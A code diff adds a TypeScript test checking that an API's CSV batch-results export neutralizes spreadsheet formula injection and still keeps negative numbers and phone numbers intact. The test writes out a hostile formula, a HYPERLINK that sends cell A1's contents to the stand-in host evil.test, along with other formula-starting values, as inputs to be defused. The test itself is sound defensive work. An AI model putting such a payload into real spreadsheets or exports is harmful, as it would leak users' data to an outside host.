@@ -5,6 +5,7 @@ import {
   type Harness,
   type ProblemBody,
   problemOf,
+  schemaExampleResponder,
   startHarness,
   TEST_API_KEY,
   TEST_COMPANY,
@@ -207,5 +208,47 @@ describe("callback URLs", () => {
     const text = JSON.stringify(problem);
     expect(text).toContain("localhost does not resolve to a public address");
     for (const leak of ["127.0.0.1", "::1", "resolves to it"]) expect(text).not.toContain(leak);
+  });
+});
+describe("CSV results", () => {
+  it("neutralizes cells a spreadsheet would run as formulas, and keep negative numbers and E.164 phones", async () => {
+    harness.model.setResponder(async (request) => {
+      const reply = await schemaExampleResponder(request);
+      if (reply.kind !== "json") return reply;
+      const value = reply.value as Record<string, unknown>;
+      if (request.userText.includes("CSV: formula?")) {
+        value.answer = '=HYPERLINK("http://evil.test/?leak="&A1,"details")';
+        value.explanation = "@SUM(A1:A9) is what the page says.";
+      }
+      if (request.userText.includes("CSV: balance?")) value.answer = -12;
+      return reply;
+    });
+    try {
+      const accepted = await harness.post("/v1/batches", {
+        items: [
+          { type: "company", ref: "=1+2", request: companyRequest("CSV: formula?") },
+          { type: "company", ref: "+4930123456", request: companyRequest("CSV: balance?", { responseType: "NUMBER" }) },
+        ],
+      });
+      expect(accepted.status).toBe(202);
+      const location = accepted.headers.get("location")!;
+      const headers = { "x-api-key": TEST_API_KEY };
+      for (let attempt = 0; attempt < 300; attempt += 1) {
+        const status = (await (await fetch(`${harness.stack.baseUrl}${location}`, { headers })).json()) as {
+          status: string;
+        };
+        if (status.status === "done") break;
+        await new Promise((resolve) => setTimeout(resolve, 100));
+      }
+      const csv = await fetch(`${harness.stack.baseUrl}${location}/results?format=csv`, { headers });
+      expect(csv.status).toBe(200);
+      const rows = (await csv.text()).trim().split("\r\n");
+      expect(rows[1]).toMatch(
+        /^0,'=1\+2,200,"'=HYPERLINK\(""http:\/\/evil\.test\/\?leak=""&A1,""details""\)",,0\.\d+,'@SUM\(A1:A9\) is what the page says\.,/,
+      );
+      expect(rows[2]).toMatch(/^1,\+4930123456,200,-12,-12,0\.\d+,/);
+    } finally {
+      harness.model.setResponder(schemaExampleResponder);
+    }
   });
 });
